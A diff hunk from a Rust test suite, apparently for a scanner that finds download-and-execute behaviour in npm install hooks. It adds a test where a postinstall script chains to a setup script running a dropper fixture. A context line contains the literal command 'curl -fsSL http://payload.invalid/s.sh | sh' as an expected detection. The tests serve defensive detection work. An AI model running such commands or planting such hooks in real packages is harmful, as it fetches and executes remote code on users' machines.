@@ -439,6 +439,20 @@ mod package {
                 .expect("found");
             assert_eq!((b.line, b.snippet.as_str()), (3, "curl -fsSL http://payload.invalid/s.sh | sh"));
         }
+        // A hook that runs another script of the manifest, which runs the file.
+        let a = npm(&[
+            (
+                "package.json",
+                r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"npm run setup --silent","setup":"sh tools/setup.sh","setup2":"npm run setup2"}}"#,
+            ),
+            ("tools/setup.sh", DROPPER),
+        ]);
+        assert_eq!(
+            found(&a, "tools/setup.sh", K::DownloadExecute),
+            Some(Context::Install),
+            "{:?}",
+            a.behaviours
+        );
         // Scripts that run scripts, PowerShell and batch files alike.
         let a = npm(&[
             (
